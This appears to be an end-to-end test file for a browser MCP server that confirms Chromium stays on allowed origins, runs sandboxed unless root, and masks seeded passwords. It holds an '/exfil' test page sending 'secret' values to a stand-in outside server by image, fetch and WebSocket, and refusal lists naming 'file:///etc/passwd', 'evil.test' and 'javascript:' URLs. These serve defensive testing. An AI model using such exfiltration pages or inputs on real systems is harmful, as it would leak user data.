/**
 * The browser MCP server end to end: a real MCP client spawns `mcp/browser/main.ts`,
 * which drives Debian's Chromium against a small app this test serves (dev-login
 * route, login form, a page that logs errors, a button, pages that try to leave the
 * origin). A second server on another port stands for "the internet": it must never
 * see a request. Screenshots land in test-artifacts/browser/.
 */
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { browserSettingsSchema } from '../../lib/mcp/browser-settings.ts';
import { BrowserSession, chromiumSandboxArgs, errorText } from '../../mcp/browser/browser.ts';
import { ConsoleBuffer } from '../../mcp/browser/console-log.ts';
import { OriginPolicy } from '../../mcp/browser/origins.ts';
import { repoRoot, waitFor } from '../support/helpers.ts';

const CHROMIUM = '/usr/bin/chromium';
const ARTIFACTS = join(repoRoot, 'test-artifacts/browser');
const ENTERPRISE_PASSWORD = `pw-${process.pid}-${Date.now()}`;
/** A password that JSON, HTML and URLs each escape differently. */
const SPECIAL_PASSWORD = `Pw"sec<ret>\\${process.pid}&x'`;

async function listen(server: Server): Promise<string> {
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
}

async function closeServer(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise<void>((r) => server.close(() => r()));
}

function cookieRole(req: IncomingMessage): string | undefined {
  return /(?:^|;\s*)role=([\w-]+)/.exec(req.headers.cookie ?? '')?.[1];
}

async function body(req: IncomingMessage): Promise<string> {
  let s = '';
  for await (const chunk of req) s += String(chunk);
  return s;
}

/** The app under test; `seen` records the role cookie of every request by path. */
function testApp(outside: () => string, seen: Array<{ path: string; role?: string }>): Server {
  const page = (title: string, html: string) => `<!doctype html><title>${title}</title><body>${html}</body>`;
  return createServer((req, res) => {
    void (async () => {
      const url = new URL(req.url ?? '/', 'http://app');
      const role = cookieRole(req);
      seen.push({ path: `${req.method} ${url.pathname}`, role });
      const html = (status: number, s: string, headers: Record<string, string> = {}) =>
        res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(s);
      const redirect = (to: string, cookie?: string) =>
        res.writeHead(302, { location: to, ...(cookie ? { 'set-cookie': `role=${cookie}; Path=/; HttpOnly` } : {}) }).end();
      switch (`${req.method} ${url.pathname}`) {
        case 'GET /':
          return html(200, page(`Home — ${role ?? 'anonymous'}`, `<p id="whoami">${role ? `Logged in as ${role}` : 'Not logged in'}</p>`));
        case 'GET /dev-login':
          return redirect('/', url.searchParams.get('role') ?? 'nobody');
        case 'GET /login':
          return html(200, page('Sign in', '<form method="post" action="/login"><input id="email" name="email"><input id="password" name="password" type="password"><button type="submit">Sign in</button></form>'));
        case 'POST /login': {
          const form = new URLSearchParams(await body(req));
          const ok = form.get('email') === 'ent@example.test' && form.get('password') === ENTERPRISE_PASSWORD;
          return ok ? redirect('/', 'enterprise') : html(401, page('Bad credentials', 'bad credentials'));
        }
        case 'GET /errors':
          return html(200, page('Errors', "<script>alert('alert from the test page'); console.error('console error from the test page'); throw new Error('uncaught error from the test page');</script>"));
        case 'GET /click':
          return html(200, page('Click me', `<button id="go" style="width:300px;height:100px">Go</button><p id="status">waiting</p>
<script>document.getElementById('go').addEventListener('click', () => {
  document.getElementById('status').textContent = 'clicked'; document.title = 'Clicked';
  document.body.style.background = '#c00'; console.log('button clicked');
});</script>`));
        case 'GET /exfil':
          return html(200, page('Exfil', `<img src="${outside()}/img?secret=1"><img src="/redirect-img">
<script>fetch('${outside()}/fetch?secret=2').catch((e) => console.log('fetch failed: ' + e.message));
new WebSocket('${outside().replace('http', 'ws')}/ws?secret=4');</script>`));
        case 'GET /login-get':
          // A form without method="post": the browser sends the password in the URL.
          return html(200, page('Sign in', '<form action="/session"><input id="email" name="email"><input id="password" name="password" type="password"><button type="submit">Sign in</button></form>'));
        case 'GET /session':
          return url.searchParams.get('password') === ENTERPRISE_PASSWORD
            ? html(200, page('Signed in', '<p id="whoami">Logged in as enterprise</p>'), { 'set-cookie': 'role=enterprise; Path=/; HttpOnly' })
            : html(401, page('Bad credentials', 'bad credentials'));
        case 'GET /many-hosts':
          // A page that makes up a host per request: each refused by the guard proxy.
          return html(200, page('Many hosts', `<script>for (let i = 0; i < 260; i++) new WebSocket('ws://h' + i + '.example.test/ws');</script>`));
        case 'GET /link-out':
          return html(200, page('Link out', `<a id="out" href="${outside()}/clicked?secret=6">out</a>`));
        case 'GET /tall':
          return html(200, page('Tall', '<div style="height:30000px;background:linear-gradient(#fff,#00f)">tall</div>'));
        case 'GET /flood':
          return html(200, page('Flood', `<script>for (let i = 0; i < 300; i++) console.error(i + ' ' + 'x'.repeat(5000));</script>`));
        case 'GET /busy':
          // Loads, then its script never yields again.
          return html(200, page('Busy', '<script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 0));</script>'));
        case 'GET /busy-later':
          // Answers for a second after its load, then its script never yields again.
          return html(200, page('Busy later', '<script>setTimeout(() => { for (;;) {} }, 1000);</script>'));
        case 'GET /webrtc':
          // ICE gathering sends STUN over UDP, past any HTTP proxy (and resolves a STUN host name over DNS).
          return html(200, page('WebRTC', `<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${Number(url.searchParams.get('port'))}' }] });
pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch((e) => console.log('webrtc: ' + e.message));</script>`));
        case 'GET /turn':
          // A TURN server over TCP is proxied (CONNECT), but Chromium looks its name up first.
          return html(200, page('TURN', `<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${url.searchParams.get('name')}.example.com:3478?transport=tcp', username: 'u', credential: 'c' }] });
pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch((e) => console.log('webrtc: ' + e.message));</script>`));
        case 'GET /login-echo':
          return html(200, page('Sign in', '<form method="post" action="/login-echo"><input id="password" name="password" type="password"><button type="submit">Sign in</button></form>'));
        case 'POST /login-echo': {
          // An app that logs what it got: as JSON, as HTML, and at the end of a long line
          // (cut at 2000 characters in the middle of the password).
          const pw = JSON.stringify(new URLSearchParams(await body(req)).get('password') ?? '').replace(/</g, '\\u003c');
          return html(200, page('Echo', `<script>const pw = ${pw};
console.log('login body ' + JSON.stringify({ password: pw }));
console.log('x'.repeat(1990) + pw);
const input = document.createElement('input'); input.setAttribute('value', pw); console.log(input.outerHTML);
const p = document.createElement('p'); p.textContent = pw; console.log(p.innerHTML);</script>`));
        }
        case 'GET /big-title':
          return html(200, `<!doctype html><script>document.title = 'T'.repeat(3_000_000)</script>`);
        case 'GET /redirect-long':
          return redirect(`${outside()}/landing?long=${'y'.repeat(5000)}`);
        case 'GET /tall-lie':
          // Tells scripts it is 500 px high; it is 20000.
          return html(200, `<!doctype html><title>Tall lie</title><script>Object.defineProperty(Element.prototype, 'scrollHeight', { get() { return 500; } });</script><body style="margin:0"><div style="height:20000px;background:linear-gradient(#fff,#00f)"></div></body>`);
        case 'GET /unsaved':
          // An editor that asks before it is left with unsaved changes.
          return html(200, page('Unsaved', `<button id="edit">Edit</button>
<script>addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'unsaved changes'; });</script>`));
        case 'GET /popups':
          // A popup whose own script opens a popup of its own, before anything could close the first.
          return html(200, page('Popups', `<button id="open">Open</button>
<script>document.getElementById('open').onclick = () => window.open('').document.write('<script>open("/popper2")<' + '/script>');</script>`));
        case 'GET /popper2':
          return html(200, page('Popper 2', `<script>setInterval(() => fetch('/tick'), 100);</script>`));
        case 'GET /download':
          return html(200, page('Download', '<a id="get" href="/export.csv">Export</a>'));
        case 'GET /export.csv':
          return res.writeHead(200, { 'content-type': 'text/csv', 'content-disposition': 'attachment; filename="export.csv"' }).end('a,b\n1,2\n');
        case 'GET /redirect-img':
          return redirect(`${outside()}/img-redirect?secret=5`);
        case 'GET /redirect-out':
          return redirect(`${outside()}/landing?secret=3`);
        default:
          return html(404, page('Not found', 'not found'));
      }
    })();
  });
}

/** The highest entry number in a browser_console_logs result (0 when there is none). */
function lastEntry(logs: string): number {
  return Math.max(0, ...[...logs.matchAll(/^#(\d+) /gm)].map((m) => Number(m[1])));
}

/** The number of the newest entry, through as many answers as the buffer takes. */
async function newestEntry(call: Spawned['call']): Promise<number> {
  for (let mark = 0; ; ) {
    const next = lastEntry(textOf(await call('browser_console_logs', { after: mark })));
    if (!next) return mark;
    mark = next;
  }
}

function textOf(r: CallToolResult): string {
  return r.content.map((c) => (c.type === 'text' ? c.text : `[${c.type}]`)).join('\n');
}

/** Width and height from a PNG's IHDR chunk, after checking the 8-byte signature. */
function pngSize(png: Buffer): { width: number; height: number } {
  assert.deepEqual([...png.subarray(0, 8)], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'PNG signature');
  assert.equal(png.toString('latin1', 12, 16), 'IHDR');
  return { width: png.readUInt32BE(16), height: png.readUInt32BE(20) };
}

/** PIDs of live processes whose command line names `needle` (Chromium's user-data-dir). */
function pidsWith(needle: string): number[] {
  const pids: number[] = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      if (readFileSync(`/proc/${d}/cmdline`, 'utf8').includes(needle)) pids.push(Number(d));
    } catch {
      // The process exited while we looked.
    }
  }
  return pids;
}

interface Spawned {
  client: Client;
  transport: StdioClientTransport;
  stderr: () => string;
  call: (name: string, args?: Record<string, unknown>) => Promise<CallToolResult>;
}

async function spawnServer(args: string[], env: Record<string, string>): Promise<Spawned> {
  const transport = new StdioClientTransport({
    command: process.execPath,
    args: ['--import', 'tsx', 'mcp/browser/main.ts', ...args],
    cwd: repoRoot,
    env: { ...(process.env as Record<string, string>), ...env },
    stderr: 'pipe',
  });
  let err = '';
  transport.stderr?.on('data', (d: Buffer) => (err += d.toString()));
  const client = new Client({ name: 'browser-test', version: '0.0.0' });
  await client.connect(transport);
  const call = async (name: string, a: Record<string, unknown> = {}) => (await client.callTool({ name, arguments: a })) as CallToolResult;
  return { client, transport, stderr: () => err, call };
}

describe('browser settings and origin policy', () => {
  it('parses {} with every default and normalizes origins', () => {
    const s = browserSettingsSchema.parse({});
    assert.equal(s.chromiumPath, '/usr/bin/chromium');
    assert.deepEqual([s.origins, s.roles, s.headless, s.maxConsoleEntries], [[], {}, true, 200]);
    assert.deepEqual(browserSettingsSchema.parse({ origins: ['http://127.0.0.1:4101/'] }).origins, ['http://127.0.0.1:4101']);
  });

  it('rejects origins with paths, other schemes, and roles without exactly one login method', () => {
    for (const origins of [['http://127.0.0.1:4101/app'], ['file:///tmp'], ['not a url']]) {
      assert.equal(browserSettingsSchema.safeParse({ origins }).success, false, JSON.stringify(origins));
    }
    const form = { url: '/login', fields: {}, submit: 'button' };
    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x' } } }).success, false);
    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x', loginUrl: '/l', form } } }).success, false);
    assert.equal(browserSettingsSchema.safeParse({ roles: { a: { description: 'x', form: { ...form, fields: { '#p': { env: 'lower' } } } } } }).success, false);
  });

  it('resolves paths to the first origin and refuses everything off-origin, naming the allowed ones', () => {
    const p = new OriginPolicy(['http://127.0.0.1:4101', 'http://127.0.0.1:4201']);
    assert.equal(p.resolve('/x?y=1').href, 'http://127.0.0.1:4101/x?y=1');
    assert.equal(p.resolve('/x', 'http://127.0.0.1:4201/a').href, 'http://127.0.0.1:4201/x');
    assert.equal(p.resolve('about:blank').href, 'about:blank');
    assert.ok(p.allows('ws://127.0.0.1:4101/socket'));
    assert.ok(p.allowsAuthority('127.0.0.1', '4201') && !p.allowsAuthority('127.0.0.1', '4301'));
    // An IPv6 origin: a tunnel's host comes with its brackets or without.
    const v6 = new OriginPolicy(['http://[::1]:4101']);
    assert.ok(v6.allowsAuthority('[::1]', '4101') && v6.allowsAuthority('::1', '4101') && !v6.allowsAuthority('::1', '4102'));
    // '/\\host:port/' looks like a path; the URL parser reads the backslash as a slash: another host.
    for (const bad of ['http://127.0.0.1:4301/', 'https://127.0.0.1:4101/', '//evil.test/x', '/\\localhost:22/', '/\\evil.test/x', 'file:///etc/passwd', 'javascript:alert(1)', 'data:text/html,x']) {
      assert.throws(() => p.resolve(bad), /allowed origins: http:\/\/127\.0\.0\.1:4101, http:\/\/127\.0\.0\.1:4201/, bad);
    }
  });

  // Review finding: errorText cut at 800 characters and the console buffer at 2000 before
  // the password mask ran, so a cut through a password left its first characters.
  it('masks before it cuts: a Playwright error cut in a password shows no part of it', () => {
    const mask = (t: string) => t.split(SPECIAL_PASSWORD).join('[secret]');
    const said = errorText(new Error(`${'e'.repeat(795)}${SPECIAL_PASSWORD}\nCall log:\n  - x`), mask);
    assert.equal(said, `${'e'.repeat(795)}[secr… [3 more chars]`);
    const buffer = new ConsoleBuffer(10, mask);
    assert.equal(buffer.push('console', 'log', `${'x'.repeat(1995)}${SPECIAL_PASSWORD}`).text, `${'x'.repeat(1995)}[secr… [3 more chars]`);
  });

  // Review finding: Chromium always ran with --no-sandbox, also for the unprivileged user
  // docs/security.md says to run bugbot as; its renderers run the pages under test.
  it("turns Chromium's sandbox off only for root, or once it failed to start", () => {
    assert.deepEqual(chromiumSandboxArgs(0, false), ['--no-sandbox']);
    assert.deepEqual(chromiumSandboxArgs(1001, false), []);
    assert.deepEqual(chromiumSandboxArgs(undefined, false), []);
    assert.deepEqual(chromiumSandboxArgs(1001, true), ['--no-sandbox']);
  });

  it('main.ts exits 2 naming the bad setting', () => {
    const dir = mkdtempSync(join(tmpdir(), 'bugbot-browser-settings-'));
    try {
      writeFileSync(join(dir, 's.json'), JSON.stringify({ origins: ['http://127.0.0.1:1/app'], bogus: 1 }));
      const r = spawnSync(process.execPath, ['--import', 'tsx', 'mcp/browser/main.ts', '--settings', join(dir, 's.json')], { cwd: repoRoot, encoding: 'utf8', input: '' });
      assert.equal(r.status, 2, r.stderr);
      assert.match(r.stderr, /not a bare http\(s\) origin/);
      assert.match(r.stderr, /bogus/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('browser MCP server against real Chromium', () => {
  const seen: Array<{ path: string; role?: string }> = [];
  const outsideHits: string[] = [];
  // "The internet": any request, tunnel or upgrade reaching it is a leak.
  const outside = createServer((req, res) => {
    outsideHits.push(`${req.method} ${req.url}`);
    res.end('leaked');
  });
  outside.on('connect', (req, socket) => {
    outsideHits.push(`CONNECT ${req.url}`);
    socket.destroy();
  });
  outside.on('upgrade', (req, socket) => {
    outsideHits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  let outsideOrigin = '';
  const app = testApp(() => outsideOrigin, seen);
  let appOrigin = '';
  let tmp = '';
  let server: Spawned;
  let userDataDir = '';

  before(async () => {
    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install chromium (or run scripts/install-test-deps.sh)`);
    outsideOrigin = await listen(outside);
    appOrigin = await listen(app);
    tmp = mkdtempSync(join(tmpdir(), 'bugbot-browser-test-'));
    mkdirSync(ARTIFACTS, { recursive: true });
    const form = { url: '/login', fields: { '#email': 'ent@example.test', '#password': { env: 'BUGBOT_TEST_ENTERPRISE_PASSWORD' } }, submit: 'button[type=submit]' };
    const settings = {
      viewport: { width: 800, height: 600 },
      actionTimeoutMs: 1_500,
      roles: {
        free: { description: 'free plan user', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as free' },
        enterprise: { description: 'enterprise admin', form, expect: '#whoami >> text=Logged in as enterprise' },
        'no-secret': { description: 'password variable unset', form: { ...form, fields: { '#password': { env: 'BUGBOT_TEST_UNSET_PASSWORD' } } } },
        'via-get': { description: 'a login form that sends its fields in the URL', form: { ...form, url: '/login-get' }, expect: 'text=Logged in as enterprise' },
        'wrong-proof': { description: 'login that does not show its proof', loginUrl: '/dev-login?role=free', expect: 'text=Logged in as someone else' },
        echo: { description: 'a login page that logs the password', form: { url: '/login-echo', fields: { '#password': { env: 'BUGBOT_TEST_SPECIAL_PASSWORD' } }, submit: 'button[type=submit]' } },
      },
    };
    writeFileSync(join(tmp, 'browser.json'), JSON.stringify(settings));
    // TMPDIR puts Chromium's user-data-dir under tmp, so /proc can tell our Chromium apart.
    server = await spawnServer(['--settings', join(tmp, 'browser.json'), '--origin', appOrigin], {
      TMPDIR: tmp,
      BUGBOT_TEST_ENTERPRISE_PASSWORD: ENTERPRISE_PASSWORD,
      BUGBOT_TEST_SPECIAL_PASSWORD: SPECIAL_PASSWORD,
    });
  });

  after(async () => {
    await server?.client.close();
    await closeServer(app);
    await closeServer(outside);
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it("runs Chromium with its own sandbox unless this is root", async () => {
    const nav = await server.call('browser_navigate', { url: '/' });
    assert.ok(!nav.isError, textOf(nav));
    const dir = /user-data-dir=(\S+)/.exec(server.stderr())?.[1] ?? '';
    const root = process.getuid!() === 0;
    // The browser process itself (its children get their own flags).
    const cmdlines = pidsWith(`--user-data-dir=${dir}`).map((pid) => readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0'));
    const browser = cmdlines.find((args) => !args.some((a) => a.startsWith('--type=')));
    assert.ok(browser, `Chromium's browser process runs:\n${server.stderr()}`);
    assert.equal(browser.includes('--no-sandbox'), root, `uid ${process.getuid!()}: ${browser.join(' ')}`);
    assert.match(server.stderr(), new RegExp(`chromium started: .* sandbox=${root ? 'off' : 'on'}`));
    assert.doesNotMatch(server.stderr(), /sandbox could not start/);
  });

  it('lists five tools with honest annotations', async () => {
    const { tools } = await server.client.listTools();
    const byName = new Map(tools.map((t) => [t.name, t.annotations]));
    assert.deepEqual([...byName.keys()].sort(), ['browser_click', 'browser_console_logs', 'browser_dev_login', 'browser_navigate', 'browser_screenshot']);
    assert.equal(byName.get('browser_screenshot')?.readOnlyHint, true);
    assert.equal(byName.get('browser_console_logs')?.readOnlyHint, true);
    assert.equal(byName.get('browser_click')?.destructiveHint, true);
    for (const t of tools) assert.equal(t.annotations?.openWorldHint, false, t.name);
  });

  it('navigates and takes a real PNG screenshot at the configured viewport', async () => {
    const nav = await server.call('browser_navigate', { url: '/' });
    assert.ok(!nav.isError, textOf(nav));
    assert.match(textOf(nav), new RegExp(`Opened ${appOrigin}/ — "Home — anonymous" \\(HTTP 200\\)`));
    userDataDir = /user-data-dir=(\S+)/.exec(server.stderr())?.[1] ?? '';
    assert.ok(userDataDir.startsWith(tmp), server.stderr());
    assert.ok(pidsWith(`--user-data-dir=${userDataDir}`).length > 0, 'a chromium process runs with our user-data-dir');

    const shot = await server.call('browser_screenshot');
    const image = shot.content.find((c) => c.type === 'image');
    assert.ok(image && image.type === 'image' && image.mimeType === 'image/png', textOf(shot));
    const png = Buffer.from(image.data, 'base64');
    writeFileSync(join(ARTIFACTS, 'home.png'), png);
    assert.deepEqual(pngSize(png), { width: 800, height: 600 });
  });

  it('reports console.error and an uncaught page error', async () => {
    const nav = await server.call('browser_navigate', { url: `${appOrigin}/errors` });
    assert.match(textOf(nav), /New in browser_console_logs/);
    const logs = await waitFor(async () => {
      const t = textOf(await server.call('browser_console_logs'));
      return t.includes('uncaught error from the test page') ? t : undefined;
    }, 5_000, 'the page error in browser_console_logs');
    assert.match(logs, /\[console\.error\] console error from the test page/);
    assert.match(logs, /\[pageerror\] Error: uncaught error from the test page/);
    assert.match(logs, /\[dialog\] alert: alert from the test page \(dismissed\)/);
    assert.match(textOf(await server.call('browser_console_logs', { after: lastEntry(logs) })), /No console messages/);
  });

  it('clicks a button and the page changes', async () => {
    await server.call('browser_navigate', { url: '/click' });
    const beforeShot = await server.call('browser_screenshot');
    const click = await server.call('browser_click', { selector: '#go' });
    assert.ok(!click.isError, textOf(click));
    assert.match(textOf(click), /Clicked #go\. Page: .*\/click — "Clicked"/);
    const afterShot = await server.call('browser_screenshot');
    const png = (r: CallToolResult) => Buffer.from((r.content[0] as { data: string }).data, 'base64');
    writeFileSync(join(ARTIFACTS, 'click-after.png'), png(afterShot));
    assert.notDeepEqual(png(afterShot), png(beforeShot), 'the click changed what the page shows');
    assert.match(textOf(await server.call('browser_console_logs')), /button clicked/);
    const miss = await server.call('browser_click', { selector: '#does-not-exist' });
    assert.equal(miss.isError, true);
    assert.match(textOf(miss), /Could not click #does-not-exist/);
  });

  it('logs in as two roles (dev-login route and form) and the page shows each', async () => {
    const free = await server.call('browser_dev_login', { role: 'free' });
    assert.ok(!free.isError, textOf(free));
    assert.match(textOf(free), /Logged in as 'free' \(free plan user\).*"Home — free"/s);
    assert.ok(seen.some((s) => s.path === 'GET /' && s.role === 'free'), 'the app served / to the free user');

    const ent = await server.call('browser_dev_login', { role: 'enterprise' });
    assert.ok(!ent.isError, textOf(ent));
    assert.match(textOf(ent), /Logged in as 'enterprise' \(enterprise admin\) via the login form.*"Home — enterprise"/s);
    assert.ok(!textOf(ent).includes(ENTERPRISE_PASSWORD), 'the password is not echoed');
    const post = seen.findLast((s) => s.path === 'POST /login');
    assert.equal(post?.role, undefined, "the free user's cookie was cleared before the form login");
    const shot = await server.call('browser_screenshot');
    writeFileSync(join(ARTIFACTS, 'enterprise.png'), Buffer.from((shot.content[0] as { data: string }).data, 'base64'));
  });

  it('refuses unknown roles with the known ones, and says why a login failed', async () => {
    const unknown = await server.call('browser_dev_login', { role: 'admin' });
    assert.equal(unknown.isError, true);
    assert.match(textOf(unknown), /Unknown role 'admin'; known roles: free \(free plan user\); enterprise \(enterprise admin\)/);
    const noSecret = await server.call('browser_dev_login', { role: 'no-secret' });
    assert.equal(noSecret.isError, true);
    assert.match(textOf(noSecret), /BUGBOT_TEST_UNSET_PASSWORD, not set/);
    const wrong = await server.call('browser_dev_login', { role: 'wrong-proof' });
    assert.equal(wrong.isError, true);
    assert.match(textOf(wrong), /text=Logged in as someone else did not appear/);
  });

  it('refuses off-origin, file:, data: and chrome: navigation, naming the allowed origin', async () => {
    for (const url of [`${outsideOrigin}/`, 'file:///etc/passwd', 'data:text/html,<h1>x</h1>', 'chrome://version']) {
      const r = await server.call('browser_navigate', { url });
      assert.equal(r.isError, true, url);
      assert.ok(textOf(r).includes(`allowed origins: ${appOrigin}`), textOf(r));
    }
  });

  it('blocks and reports off-origin subresources, fetches, WebSockets and redirects', async () => {
    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
    await server.call('browser_navigate', { url: '/exfil' });
    const redirect = await server.call('browser_navigate', { url: '/redirect-out' });
    assert.equal(redirect.isError, true);
    assert.match(textOf(redirect), new RegExp(`redirected to ${outsideOrigin}/landing\\?secret=3.*allowed origins: ${appOrigin}`, 's'));
    const want = ['/img?secret=1', '/fetch?secret=2', '/img-redirect?secret=5', '/landing?secret=3', `WebSocket ws://${outsideOrigin.slice(7)}/ws?secret=4`];
    const logs = await waitFor(async () => {
      const t = textOf(await server.call('browser_console_logs', { after: mark }));
      return want.every((w) => t.includes(w)) ? t : undefined;
    }, 5_000, `blocked entries for ${want.join(', ')}`);
    assert.match(logs, /\[blocked\] GET http:\/\/127\.0\.0\.1:\d+\/img\?secret=1 \(image\)/);
    assert.doesNotMatch(logs, /\[requestfailed\].*ERR_BLOCKED_BY_CLIENT/, 'blocked requests are reported once, as blocked');
    assert.match(logs, /img-redirect\?secret=5 \(image, redirected from http:\/\/[\d.:]+\/redirect-img; refused by the guard proxy\)/);
    // The second layer did the refusing for the redirects and the WebSocket.
    assert.match(server.stderr(), new RegExp(`guard proxy refused (GET|CONNECT) \\S*${outsideOrigin.slice(7)}`));
    assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
  });

  // Review finding: the guard proxy's refusals were logged once per host, and hosts are the
  // page's to make up: a page could write the server's log without end.
  it("logs the guard proxy's refusals for at most 200 hosts, then says it stops", async () => {
    await server.call('browser_navigate', { url: '/many-hosts' });
    await waitFor(() => (/refusals for further hosts are not logged/.test(server.stderr()) ? true : undefined), 20_000, 'the last refusal line');
    await new Promise((r) => setTimeout(r, 500));
    const lines = server.stderr().split('\n').filter((l) => /guard proxy refused/.test(l));
    assert.ok(lines.length <= 201, `${lines.length} refusal lines`);
    assert.equal(lines.filter((l) => /further hosts are not logged/.test(l)).length, 1);
  });

  // Review finding: a login form that sends its fields in the URL showed the seeded
  // password in the tool's answer (the page's address) and in the HTTP log entries.
  it("never shows a seeded user's password, wherever the page puts it", async () => {
    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
    const ok = await server.call('browser_dev_login', { role: 'via-get' });
    assert.ok(!ok.isError, textOf(ok));
    assert.match(textOf(ok), /Page: http:\/\/127\.0\.0\.1:\d+\/session\?email=ent%40example\.test&password=\[secret\]/);
    await server.call('browser_navigate', { url: `/session?password=${encodeURIComponent(ENTERPRISE_PASSWORD)}x` });
    const logs = textOf(await server.call('browser_console_logs', { after: mark }));
    assert.match(logs, /\[http\] 401 GET .*password=\[secret\]x/);
    for (const r of [ok, await server.call('browser_screenshot')]) assert.ok(!textOf(r).includes(ENTERPRISE_PASSWORD), textOf(r));
    assert.ok(!logs.includes(ENTERPRISE_PASSWORD) && !logs.includes(encodeURIComponent(ENTERPRISE_PASSWORD)), logs);
  });

  // Review finding: the mask knew the password as typed and URL-encoded only, and ran
  // after the console buffer had cut an entry at 2000 characters: a page printing it as
  // JSON (`Pw\"...`), as HTML (`&quot;`) or at the end of a long line showed it, whole or
  // its first characters.
  it("masks a seeded user's password as JSON, as HTML, and before a long entry is cut", async () => {
    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
    const login = await server.call('browser_dev_login', { role: 'echo' });
    assert.ok(!login.isError, textOf(login));
    const logs = await waitFor(async () => {
      const t = textOf(await server.call('browser_console_logs', { after: mark }));
      return lastEntry(t) - mark >= 4 ? t : undefined;
    }, 5_000, 'the echo page to log four lines');
    assert.match(logs, /login body \{"password":"\[secret\]"\}/);
    assert.match(logs, /x{1990}\[secret\]/);
    assert.match(logs, /<input value="\[secret\]">/);
    // Its distinctive middle, in every form the page printed it.
    for (const leak of ['sec<ret', 'sec&lt;ret', 'sec\\u003cret', `${process.pid}&`, `${process.pid}&amp;`]) assert.ok(!logs.includes(leak), `${leak} in:\n${logs}`);
  });

  // Review finding: `document.title = 'T'.repeat(3e6)` made a 3 MB answer, and a redirect
  // to a 5000-character URL a 5000-character error.
  it("cuts the page's title and a foreign URL, saying so", async () => {
    const nav = await server.call('browser_navigate', { url: '/big-title' });
    assert.ok(!nav.isError, textOf(nav));
    assert.ok(textOf(nav).length < 1_000, `${textOf(nav).length} characters`);
    assert.match(textOf(nav), /"T{300}… \[2999700 more chars\]"/);
    const out = await server.call('browser_navigate', { url: '/redirect-long' });
    assert.equal(out.isError, true);
    assert.ok(textOf(out).length < 1_000, `${textOf(out).length} characters`);
    assert.match(textOf(out), /redirected to http:\/\/127\.0\.0\.1:\d+\/landing\?long=y+… \[\d+ more chars\], outside the dev server/);
    assert.deepEqual(outsideHits, [], 'nothing reached the outside server');
  });

  // Review finding: the 8000 px cut trusted scrollHeight, which the page's own script can
  // redefine: a 20000 px page said it was 500 px high and came back whole.
  it("a full-page screenshot is cut by Chromium's layout size, not by what the page's scripts say", async () => {
    await server.call('browser_navigate', { url: '/tall-lie' });
    const shot = await server.call('browser_screenshot', { full_page: true });
    assert.ok(!shot.isError, textOf(shot));
    const image = shot.content.find((c) => c.type === 'image') as { data: string };
    assert.deepEqual(pngSize(Buffer.from(image.data, 'base64')), { width: 800, height: 8000 });
    assert.match(textOf(shot), /\(the page is 800×20000 px: only its top-left 800×8000 px are shown\)/);
  });

  // Review findings: a 30000 px page made a 32 MB image (models take about 8000 px), and
  // 300 long console errors a 410,000-character answer.
  it('a full-page screenshot is cut at 8000 px and says so; console logs come in answers of bounded size, the rest one call away', async () => {
    await server.call('browser_navigate', { url: '/tall' });
    const shot = await server.call('browser_screenshot', { full_page: true });
    assert.ok(!shot.isError, textOf(shot));
    const image = shot.content.find((c) => c.type === 'image') as { data: string };
    const png = Buffer.from(image.data, 'base64');
    assert.equal(png.readUInt32BE(20), 8000, 'the PNG is 8000 px high');
    assert.match(textOf(shot), /\(the page is \d+×300\d\d px: only its top-left \d+×8000 px are shown\)/);

    const mark = lastEntry(textOf(await server.call('browser_console_logs')));
    await server.call('browser_navigate', { url: '/flood' });
    const first = textOf(await server.call('browser_console_logs', { after: mark }));
    assert.ok(first.length < 45_000, `${first.length} characters`);
    const next = /newer entries did not fit in this answer: call again with after=(\d+)/.exec(first);
    assert.ok(next, first.slice(0, 300));
    const second = textOf(await server.call('browser_console_logs', { after: Number(next[1]) }));
    assert.match(second, new RegExp(`^\\d+ entries, #${Number(next[1]) + 1} to `));
  });

  // Review finding: a page looping after its load event held the tool call for ever, and
  // every later call timed out on the same busy page.
  it('a page whose script loops after it loaded is closed, the call says so, and the next call gets a fresh page', async () => {
    const started = Date.now();
    const busy = await server.client.callTool({ name: 'browser_navigate', arguments: { url: '/busy' } }, undefined, { timeout: 30_000 });
    assert.equal(busy.isError, true);
    assert.match(textOf(busy as CallToolResult), /stopped answering \(a script on it may be looping\), so it was closed: the next browser tool call opens a fresh page/);
    // Bounded: well before the call's own 30 s timeout (about 5 s here, more on a loaded machine).
    assert.ok(Date.now() - started < 25_000, `answered in ${Date.now() - started} ms`);
    const next = await server.call('browser_navigate', { url: '/' });
    assert.ok(!next.isError, textOf(next));
